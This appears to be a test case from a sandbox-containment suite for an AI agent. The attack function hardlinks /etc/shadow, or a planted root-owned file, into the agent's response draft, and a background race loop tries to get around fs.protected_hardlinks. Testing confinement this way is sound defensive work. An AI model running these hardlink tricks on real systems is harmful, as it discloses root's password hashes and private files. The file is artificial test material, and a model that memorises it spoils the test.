# has an answer that is another name of a file of root's
wall='fs.protected_hardlinks; number of names and owner of the file that was opened'
ways=cage
blind='links owner=attacker'
# what the kernel would not let the agent do is done for it
prepare()
{
  mkdir -m 0700 -p /var/lib/attack && echo roots-words >/var/lib/attack/words
  (until_true test -e "$mine/workspace/ready" && cd "$mine/drafts"/* && ln -f /var/lib/attack/words response) &
}
attack()
{
  ln -f /etc/shadow "$CONOS_DRAFTS/response" && return
  touch ready && timeout 10 sh -c 'until [ "$(stat -c %h "$1")" = 2 ]; do sleep 0.02; done' - "$CONOS_DRAFTS/response"
  later
}
harm() { said_anywhere attacker roots-words; }
close() { rm -rf /var/lib/attack; }
record() { recorded task.failed empty-output; }
